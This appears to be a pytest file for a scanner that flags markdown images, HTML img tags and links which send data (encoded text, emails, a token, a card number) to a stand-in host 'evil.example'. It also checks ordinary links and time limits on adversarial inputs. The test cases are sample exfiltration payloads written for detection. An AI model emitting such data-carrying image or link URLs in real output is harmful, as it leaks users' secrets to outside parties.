"""Addresses that carry data are found, and pictures and links as people use them are not."""

from __future__ import annotations

import pytest

from gateway.screening.links import scan
from tests.support.effort import Effort

KEY = "ghp_a8Kd03mZqP5vT7yBnX2cR9wLfH4jS6uE1gQo"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![status](https://evil.example/p.png?d=aGVsbG8)", "EXFILTRATION_IMAGE"),
        ("![](//evil.example/x?q=1)", "EXFILTRATION_IMAGE"),
        ("![a](<https://evil.example/x?q=1>)", "EXFILTRATION_IMAGE"),
        (
            "![a](https://evil.example/c2VjcmV0IGRhdGEgdGhhdCBsZWF2ZXMgaW4gdGhlIHBhdGg/p.png)",
            "EXFILTRATION_IMAGE",
        ),
        ('<img width="1" src="https://evil.example/?x=secret">', "EXFILTRATION_IMAGE"),
        ("![ref]: https://evil.example/?x=1", "EXFILTRATION_IMAGE"),
        ("[here](https://evil.example/?mail=jane.roe%40acme.com)", "EXFILTRATION_LINK"),
        ("see https://evil.example/jane.roe@acme.com/card", "EXFILTRATION_LINK"),
        (f"open https://evil.example/log?t={KEY} now", "EXFILTRATION_LINK"),
        ("https://evil.example/?c=4111+1111+1111+1111", "EXFILTRATION_LINK"),
        ("https://evil.example/?m=jane.roe%2540acme.com", "EXFILTRATION_LINK"),
    ],
)
def test_what_carries_data_is_found(text: str, kind: str) -> None:
    (found,) = scan(text)
    assert found.type == kind
    assert text[found.start : found.end].lstrip("htps:").startswith("//evil.example/")
    assert scan(text, [".example"]) == []
    assert scan(text, ["evil.example"]) == []
    assert scan(text, ["vil.example"]) == [found]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://acme.com/static/logo.png)",
        "![chart](https://acme.com/img/2026/q3-report-final.svg)",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "See https://docs.python.org/3/library/re.html?highlight=search#re.search for more.",
        "[ticket](https://jira.acme.com/browse/OPS-1234?focusedCommentId=99817)",
        "https://s3.amazonaws.com/bucket/key?X-Amz-Date=20260101T000000Z&X-Amz-Expires=900",
        "no links // at all",
        "",
    ],
)
def test_ordinary_links_are_not(text: str) -> None:
    assert scan(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "//" * 50_000,
        "![" * 50_000,
        "https://a.b/?x=1 " * 6_000,
        "![a](" * 20_000 + "//x/?y",
        "https://" + "a" * 100_000,
    ],
)
def test_hostile_texts_take_linear_time(text: str) -> None:
    with Effort() as effort:
        scan(text)
    assert effort.seconds < 1
